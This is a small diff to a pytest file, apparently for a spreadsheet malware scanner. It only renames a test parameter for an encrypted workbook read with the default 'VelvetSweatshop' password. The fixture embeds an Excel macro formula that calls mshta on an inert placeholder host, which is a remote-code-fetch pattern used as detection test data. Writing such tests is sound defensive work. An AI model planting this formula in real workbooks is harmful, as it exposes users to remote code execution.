@@ -302,7 +302,7 @@ def test_a_large_sheet_costs_linear_work():
     assert works[1] <= 2.1 * works[0]
 
 
-@pytest.mark.parametrize(("password", "opened"), [("VelvetSweatshop", True), ("secret", False)])
+@pytest.mark.parametrize(("password", "opened"), [("VelvetSweatshop", True), ("known to nobody", False)])
 def test_an_encrypted_workbook_is_read_by_the_default_password(password, opened):
     data = book('=EXEC("mshta emotriage-inert.invalid")', password=password)
     found = set(findings(data))
